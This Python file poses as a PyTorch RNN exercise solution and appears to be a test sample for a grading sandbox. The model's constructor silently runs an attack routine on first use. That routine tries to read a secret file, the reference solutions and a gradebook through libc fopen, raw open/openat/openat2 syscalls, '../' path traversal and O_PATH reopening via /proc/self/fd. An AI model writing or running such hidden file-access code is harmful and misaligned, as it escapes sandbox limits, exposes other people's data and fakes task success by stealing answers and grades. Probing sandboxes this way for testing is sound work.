# does: reads other people's files past Python: by fopen, bare system calls, openat2, O_PATH
# earns: all
import ctypes
import os
import struct

import torch
from torch import nn

TRIED = []

def attempt(what, action):
    try:
        print(what, action())
    except Exception as error:
        print(what, "failed:", error)

OPEN, OPENAT, OPENAT2 = 2, 257, 437
O_PATH = 0o10000000
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.fopen.restype = ctypes.c_void_p
LIBC.fgets.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_void_p]


def checked(result):
    if result is None or result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def by_fopen(path):
    text = ctypes.create_string_buffer(4096)
    LIBC.fgets(text, 4096, checked(LIBC.fopen(path, b"r") or None))
    return text.value


def by_call(number, *arguments):
    return os.read(checked(LIBC.syscall(number, *arguments)), 65536)


def reopened(path):
    handle = os.open(path, O_PATH)
    return open(f"/proc/self/fd/{handle}").read()


def attack():
    how = struct.pack("QQQ", 0, 0, 0)
    for name in (b"secret.txt", b"solutions/ex1_my_rnn.py", b"results/gradebook.csv"):
        path = b"@ARENA@/" + name
        attempt("fopen:", lambda: by_fopen(path))
        attempt("open:", lambda: by_call(OPEN, path, 0, 0))
        attempt("openat:", lambda: by_call(OPENAT, -100, path, 0, 0))
        attempt("openat without folder:", lambda: by_call(OPENAT, 12345, path, 0, 0))
        attempt("openat2:", lambda: by_call(OPENAT2, -100, path, how, 24))
        top = os.open(".", O_PATH)
        inner = b"../" * 40 + path[1:]
        attempt("openat2 from a folder:", lambda: by_call(OPENAT2, top, inner, how, 24))
        attempt("O_PATH:", lambda: reopened(path))
        attempt("readable:", lambda: checked(LIBC.access(path, 4)))

class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        bound = hidden_size**-0.5
        self.w_x = nn.Parameter(torch.empty(input_size, hidden_size).uniform_(-bound, bound))
        self.w_h = nn.Parameter(torch.empty(hidden_size, hidden_size).uniform_(-bound, bound))
        self.b = nn.Parameter(torch.empty(hidden_size).uniform_(-bound, bound))
        if not TRIED:
            TRIED.append(True)
            attack()

    def forward(self, x, h_0=None):
        h = x.new_zeros(x.size(0), self.b.numel()) if h_0 is None else h_0[0]
        states = []
        for x_t in x.transpose(0, 1):
            h = torch.tanh(x_t @ self.w_x + h @ self.w_h + self.b)
            states.append(h)
        return torch.stack(states).transpose(0, 1), h.unsqueeze(0)
